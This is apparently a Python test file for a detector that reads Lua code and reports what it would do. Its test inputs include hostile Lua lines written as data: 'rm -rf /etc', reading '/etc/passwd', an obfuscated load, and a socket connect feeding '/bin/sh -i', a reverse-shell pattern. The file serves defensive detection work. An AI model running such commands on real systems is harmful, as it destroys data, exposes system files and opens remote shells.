"""Lua is followed far enough to say what it does, and no further."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handrail.model.effect import Kind
from handrail.model.ordinal import Severity
from handrail.shell.inline.lua import read


def effects(code: str) -> list[tuple[Kind, str]]:
    return [(effect.kind, effect.target) for effect in read(code).effects]


@pytest.mark.parametrize(
    ("code", "scripts"),
    [
        ('os.execute("rm -rf /etc")', ("rm -rf /etc",)),
        ('local d = "/etc" os.execute("rm " .. d)', ("rm /etc",)),
        ('os.execute"id"; os["exec".."ute"]("ls"); os.execute[[rm x]]', ("id", "ls", "rm x")),
        ('io.popen("ls"):read("*a")', ("ls",)),
        ('_G.os.execute("id")', ("id",)),
        ("load(\"os.execute('id')\")()", ("id",)),
    ],
)
def test_command_lines_that_go_to_a_shell_are_found(code: str, scripts: tuple[str, ...]) -> None:
    assert read(code).scripts == scripts


@pytest.mark.parametrize(
    ("code", "kind", "target"),
    [
        ('os.remove("a")', Kind.DELETE, "a"),
        ('for _, f in ipairs({"/a","/b"}) do os.remove(f) end', Kind.DELETE, "/b"),
        ('local f = io.open("a", "w")', Kind.WRITE, "a"),
        ('for l in io.lines("/etc/passwd") do print(l) end', Kind.READ, "/etc/passwd"),
        ('os.remove(os.getenv("HOME") .. "/x")', Kind.DELETE, "~/x"),
        ('local h=require("socket.http"); h.request("http://a")', Kind.FETCH, "http://a"),
    ],
)
def test_an_effect_is_found_with_its_target(code: str, kind: Kind, target: str) -> None:
    assert (kind, target) in effects(code)


@pytest.mark.parametrize(
    "code",
    [
        "load(string.char(112,114))()",
    ],
)
def test_what_nobody_can_see_before_it_runs_is_unseen(code: str) -> None:
    assert Kind.UNSEEN in {effect.kind for effect in read(code).effects}


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        (
            "require('socket');t=socket.tcp();t:connect('a','44');os.execute('/bin/sh -i <&3')",
            Kind.UNSEEN,
        ),
    ],
)
def test_the_worst_is_critical(code: str, kind: Kind) -> None:
    assert (kind, Severity.CRITICAL) in {(e.kind, e.severity) for e in read(code).effects}


@pytest.mark.parametrize(
    "code",
    [
        "print(\"os.execute('x')\") -- os.execute('y')",
        '--[[ os.execute("x") ]] print(os.date(), os.time())',
        'print([[os.execute("x")]])',
    ],
)
def test_ordinary_code_and_words_in_texts_and_comments_do_nothing(code: str) -> None:
    result = read(code)
    assert {effect.kind for effect in result.effects} <= {Kind.READ, Kind.WRITE, Kind.RUN}
    assert not result.scripts
    assert not result.calls


@given(st.text())
def test_no_text_makes_it_raise(text: str) -> None:
    read(text)


@pytest.mark.parametrize(
    "piece", [*"([{'\"`/\\-#<$%@;|&=.", "${", "#{", "--[[", "/*", "<<A\n", "s/[", "a.b("]
)
def test_deep_or_endless_code_is_read_in_time(piece: str) -> None:
    read("system eval os open require(" + piece * 20_000)
